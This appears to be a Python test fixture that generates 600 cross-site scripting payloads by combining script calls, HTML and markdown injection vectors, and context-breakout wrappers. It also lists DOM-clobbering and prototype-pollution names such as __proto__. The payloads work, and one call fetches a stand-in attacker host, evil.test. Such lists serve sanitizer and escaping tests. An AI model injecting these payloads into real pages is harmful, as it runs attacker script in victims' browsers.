"""Texts that run a script, load something or break out of their place, where a page shows them
without care: 600 of them, made by code.
"""

from __future__ import annotations

from itertools import product

_CALL = ("alert(1)", "window.ran.push(1)", "fetch('http://evil.test')")
_HTML = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<math><mtext></table><mglyph><style><img src onerror={call}></style></mglyph></mtext></math>",
    "<input autofocus onfocus={call}>",
    "<a href='javascript:{call}'>x</a>",
    "<form action='javascript:{call}'><button>x</button></form>",
    "<object data='javascript:{call}'></object>",
    "<video><source onerror={call}></video>",
    "<marquee onstart={call}>",
    "<template><script>{call}</script></template>",
    "[x](javascript:{call})",
    "javascript:{call}",
    "data:text/html,<script>{call}</script>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
)
_AROUND = (
    "{html}",
    '"{html}',
    "'>{html}",
    '"></option></select>{html}',
    "</textarea></title></style>{html}",
    "-->{html}<!--",
    "\u2028{html}\u2029",
    "{{{{ 7*7 }}}}{{% raw %}}{html}",
    "\x00{html}",
    "{html}\u202e",
)

PAYLOADS = tuple(
    around.format(html=html.format(call=call))
    for call, html, around in product(_CALL, _HTML, _AROUND)
)
CLOBBERS = ("__proto__", "constructor.prototype", "help", "search", "sign-in", "main", "a.b[c]", "")
"""Names that would take the place of something of ours, or reach into it."""
